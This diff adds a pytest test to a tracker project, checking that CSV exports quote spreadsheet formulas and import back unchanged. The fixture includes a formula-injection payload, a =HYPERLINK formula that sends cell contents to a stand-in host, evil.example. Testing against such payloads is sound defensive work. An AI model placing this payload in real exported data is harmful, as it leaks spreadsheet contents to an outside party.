@@ -508,3 +508,71 @@ def test_deleted_records_are_not_exported(seeded: Tracker) -> None:
     assert "C007" not in ids and len(ids) == 55
     with seeded.session() as session:
         assert session.scalar(select(func.count()).select_from(models.Commitment)) == 56
+
+
+# --------------------------------------------------------------------------- formula injection
+
+
+def formula_content(tracker: Tracker) -> None:
+    """A commitment and a progress report whose editors' text a spreadsheet would run."""
+    with tracker.session(write=True) as session:
+        service.create_commitment(
+            session,
+            CommitmentCreate(
+                id="C888",
+                actor='=HYPERLINK("https://evil.example/?"&A1,"click")',
+                actor_type="ngo",
+                country="GT",
+                pillar_ids=["P1"],
+                commitment="+1 million jobs",
+                metric="-5 percentage points",
+                targets=[{"unit": "percent", "relative": True, "value": -20, "baseline_value": 8}],
+                baseline="'=already quoted",
+                deadline_text="2028",
+                notes="@SUM(1+1)",
+            ),
+            Actor("ann", "editor"),
+        )
+        service.add_progress(
+            session,
+            "C888",
+            ProgressCreate(
+                date="2025-07",
+                value=-5,
+                unit="percent",
+                evidence_url="https://example.org/r",
+                note="-2+3",
+                reported="=1+2",
+            ),
+            Actor("ann", "editor"),
+        )
+
+
+def test_csv_exports_quote_formulas_and_import_back_unchanged(
+    seeded: Tracker, tracker: Tracker, tmp_path: Path
+) -> None:
+    formula_content(seeded)
+    original = export(seeded)
+    files.write_csv(original, tmp_path / "out")
+    _, commitments = rows_of(tmp_path / "out" / "commitments.csv")
+    c888 = next(r for r in commitments if r["id"] == "C888")
+    assert c888["actor"].startswith("'=HYPERLINK(")
+    assert (c888["commitment"], c888["metric"], c888["notes"]) == (
+        "'+1 million jobs",
+        "'-5 percentage points",
+        "'@SUM(1+1)",
+    )
+    assert c888["baseline"] == "''=already quoted"  # so the import gives back "'=…"
+    assert c888["target_value"] == "-20%"  # numbers stay numbers
+    _, progress = rows_of(tmp_path / "out" / "progress.csv")
+    report = next(r for r in progress if r["commitment_id"] == "C888")
+    assert (report["value"], report["reported"], report["notes"]) == ("-5", "'=1+2", "'-2+3")
+    every_cell = [c for r in commitments + progress for c in r.values()]
+    assert not [c for c in every_cell if c[:1] in ("=", "@")]
+
+    run_import(tracker, [tmp_path / "out"])
+    copied = export(tracker)
+    assert [r.data for r in copied.commitments] == [r.data for r in original.commitments]
+    assert [r.data for r in copied.progress] == [r.data for r in original.progress]
+    back = next(r.data for r in copied.commitments if r.data.id == "C888")
+    assert back.baseline == "'=already quoted" and back.actor.startswith("=HYPERLINK(")
